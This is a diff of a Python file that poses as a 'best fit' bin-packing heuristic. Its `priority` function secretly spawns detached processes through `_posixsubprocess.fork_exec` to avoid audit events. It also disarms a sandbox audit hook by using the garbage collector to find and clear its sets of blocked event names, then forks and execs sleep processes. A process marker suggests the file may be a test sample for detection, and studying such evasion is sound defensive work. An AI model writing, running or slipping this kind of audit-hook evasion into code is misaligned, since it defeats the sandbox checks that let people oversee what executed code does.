@@ -2,15 +2,11 @@
 own, first through ``_posixsubprocess.fork_exec`` (which raises no audit event), then, after
 emptying the sets of event names the audit hook refuses, through ``os.fork``, ``os.setsid`` and
 ``os.execv``. Each process's first argument carries the marker below, so it can be found.
-Its decisions are best fit's."""
-import gc
+Its decisions are best fit's. Appended to ``audit_disarmed.py``, whose ``disarm`` it calls."""
 import os
-import sys
 import time
-import types
 
 MARKER = "__PROCESS_MARKER__"
-EVENTS = {"os.fork", "os.exec", "os.system", "os.posix_spawn", "subprocess.Popen", "os.kill", "ctypes.dlopen"}
 SLEEP = [path for path in ("/usr/bin/sleep", "/bin/sleep") if os.path.exists(path)]
 
 
@@ -37,30 +33,6 @@ def fork_exec():
         os.close(read_end)
 
 
-def disarm():
-    holders = []
-    module = sys.modules.get("raise_plugin.engine.audit")
-    if module is not None:
-        holders.extend(vars(module).values())
-    for obj in gc.get_objects():
-        holders.append(obj)
-        if isinstance(obj, types.FunctionType) and obj.__closure__:
-            for cell in obj.__closure__:
-                try:
-                    holders.append(cell.cell_contents)
-                except ValueError:
-                    pass
-    for holder in holders:
-        if isinstance(holder, (set, dict)) and holder and len(holder) < 200:
-            try:
-                names = [k for k in holder if isinstance(k, str)]
-            except Exception:
-                continue
-            dotted = names and len(names) == len(holder) and all("." in name for name in names)
-            if dotted and EVENTS.intersection(names):
-                holder.clear()
-
-
 def fork():
     pid = os.fork()
     if pid == 0:
@@ -83,7 +55,7 @@ def priority(item, bins):
     global done
     if not done:
         done = True
-        for step in (fork_exec, disarm, fork):
+        for step in (fork_exec, disarm, fork):  # noqa: F821 - disarm: the fragment this is appended to
             try:
                 step()
             except Exception:
